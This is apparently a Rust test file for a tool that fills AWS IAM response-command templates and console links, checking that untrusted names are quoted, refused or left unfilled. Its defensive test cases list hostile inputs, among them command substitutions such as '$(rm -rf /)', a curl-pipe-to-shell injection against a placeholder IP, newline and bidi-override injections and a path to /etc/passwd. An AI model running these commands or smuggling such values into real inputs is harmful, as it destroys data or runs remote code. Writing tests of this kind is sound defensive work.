//! Commands and links: whatever the names, they harm nobody.

use super::*;

#[test]
fn a_command_is_printed_once_per_name_and_in_order_for_each() {
    let mut two = item(
        "aws iam update-access-key --user-name={{ user }} --access-key-id={{ key }} --status Inactive",
        Some(ForEach::AccessKey),
    );
    two.commands.push(CommandTemplate {
        run: "aws iam list-access-keys --user-name={{ user }}".to_owned(),
        treat: None,
        for_each: Some(ForEach::AccessKey),
        note: String::new(),
    });
    let names = Names {
        subjects: vec![
            subject(
                SubjectKind::AccessKey,
                Origin::Seed,
                "AKIAIOSFODNN7EXAMPLE",
                Some("app"),
            ),
            subject(SubjectKind::User, Origin::Seed, "app", None),
            subject(
                SubjectKind::AccessKey,
                Origin::Created,
                "AKIAI44QH8DHBEXAMPLE",
                Some("evil"),
            ),
        ],
        ..Names::default()
    };
    let lines: Vec<String> = commands(&two, &names).into_iter().map(|c| c.line).collect();
    assert_eq!(
        lines,
        [
            "aws iam update-access-key --user-name=app --access-key-id=AKIAIOSFODNN7EXAMPLE --status Inactive",
            "aws iam list-access-keys --user-name=app",
            "aws iam update-access-key --user-name=evil --access-key-id=AKIAI44QH8DHBEXAMPLE --status Inactive",
            "aws iam list-access-keys --user-name=evil",
        ]
    );
}

#[test]
fn a_script_says_which_commands_are_alternatives_and_breaks_no_line() {
    let names = Names {
        now: Some("2026-05-21T13:00:00Z".to_owned()),
        subjects: vec![subject(SubjectKind::User, Origin::Seed, "app", Some("app"))],
        ..Names::default()
    };
    let playbook = builtin_playbook();
    let lines = |id: &str| script(playbook.items().find(|item| item.id == id).unwrap(), &names);
    let (back, deny) = (lines("S1-11"), lines("S1-12"));
    assert!(
        back[0].starts_with("# only if") && back[2].starts_with("# later"),
        "{back:#?}"
    );
    assert!(
        deny[0].starts_with("# one of the two") && deny[2].starts_with("# or"),
        "{deny:#?}"
    );
    assert!(deny[3].len() > 200 && deny[3].ends_with("--user-name=app"), "{deny:#?}");
}

#[test]
fn a_comment_is_inert_also_where_a_shell_takes_it_for_a_command() {
    let evil = "the users' keys; rm -rf ~ > $HOME & `id` \"a\\b\nc\u{202e}";
    let comment = comment(evil);
    assert!(comment.starts_with("# the users\u{2019} keys"), "{comment}");
    assert_eq!(
        argv(&comment[2..]).join(" "),
        comment[2..].split_whitespace().collect::<Vec<_>>().join(" ")
    );
    assert!(
        !comment.contains(|c: char| c.is_control() || "'`\"$;&|<>~\\\u{202e}".contains(c)),
        "{comment}"
    );
}

#[test]
fn an_unknown_value_is_a_visible_blank_that_a_shell_takes_for_text() {
    let lines = commands(
        &item("aws iam get-user --user-name={{ user }}", Some(ForEach::User)),
        &Names::default(),
    );
    assert_eq!(lines[0].line, "aws iam get-user --user-name='<user>'");
    assert_eq!(argv(&lines[0].line)[3], "--user-name=<user>");
}

#[test]
fn hostile_names_are_one_inert_argument_each() {
    for name in [
        "$(rm -rf /)",
        "`reboot`",
        "; curl http://192.0.2.1/x | sh",
        "--profile evil",
        "-rf",
        "it's",
        "\"quoted\"",
        "'\"'\"'$(id)'",
        "a b\\",
        "\\' ; id #",
        "*",
        "~root",
        "!!",
        "${IFS}&&id",
        "{{ account }}",
        "{% for x in y %}",
        "naïve-名前",
    ] {
        let names = Names {
            subjects: vec![subject(SubjectKind::User, Origin::Seed, name, None)],
            ..Names::default()
        };
        let lines = commands(
            &item("aws iam get-user --user-name={{ user }} --end", Some(ForEach::User)),
            &names,
        );
        assert_eq!(
            argv(&lines[0].line)[2..],
            ["get-user", &format!("--user-name={name}"), "--end"],
            "{name}"
        );
    }
}

#[test]
fn names_that_no_quoting_makes_harmless_are_refused_and_said() {
    for name in [
        "a\nrm -rf /\n",
        "a\r",
        "nul\0",
        "\u{1b}]0;title\u{7}",
        "\u{9b}31m",
        "user\u{202e}nimda",
        "a\u{200b}dmin",
        "file:///etc/passwd",
    ] {
        let names = Names {
            subjects: vec![subject(SubjectKind::User, Origin::Seed, name, None)],
            ..Names::default()
        };
        let line = &commands(
            &item("aws iam get-user --user-name={{ user }}", Some(ForEach::User)),
            &names,
        )[0]
        .line;
        assert!(line.starts_with("aws iam get-user --user-name='<refused: "), "{line}");
        assert_eq!(argv(line).len(), 4, "{line}");
    }
}

#[test]
fn a_template_that_was_never_checked_is_not_filled_in() {
    let names = Names {
        subjects: vec![subject(SubjectKind::User, Origin::Seed, "$(id)", None)],
        ..Names::default()
    };
    for run in [
        "aws '{{ user }}'",
        "aws {{ user }}",
        "aws --x=${{ user }}",
        "aws --x=\\{{ user }}",
        "aws --x={{ nobody }}",
    ] {
        let line = &commands(&item(run, Some(ForEach::User)), &names)[0].line;
        assert!(
            line.starts_with("'<not shown: ") || line.starts_with("\"<not shown: "),
            "{line}"
        );
        assert_eq!(argv(line).len(), 1, "{line}");
    }
}

#[test]
fn a_page_of_the_console_is_in_the_accounts_partition_and_its_names_stay_names() {
    let names = |partition: &str, name: &str| Names {
        partition: Some(partition.to_owned()),
        subjects: vec![Subject {
            region: Some("x.evil.example/".to_owned()),
            ..subject(SubjectKind::User, Origin::Seed, name, Some(name))
        }],
        ..Names::default()
    };
    let links = |page: Page, names: &Names| {
        let subjects: Vec<&Subject> = names.subjects.iter().collect();
        page.links(names, &subjects)
            .into_iter()
            .map(|link| link.url)
            .collect::<Vec<_>>()
    };
    assert_eq!(
        links(Page::UserPermissions, &names("aws-us-gov", "a/../b?c#d e")),
        [
            "https://us-gov-west-1.console.amazonaws-us-gov.com/iam/home#/users/details/a%2F..%2Fb%3Fc%23d%20e?section=permissions"
        ]
    );
    assert_eq!(
        links(Page::Ec2, &names("aws-cn", "app")),
        ["https://cn-north-1.console.amazonaws.cn/ec2/home?region=cn-north-1#Instances:"]
    );
    assert_eq!(
        links(Page::Bills, &names("aws", "app")),
        ["https://console.aws.amazon.com/billing/home#/bills"]
    );
    assert_eq!(links(Page::Role, &names("aws", "app")), [""; 0], "nothing fills it in");
}
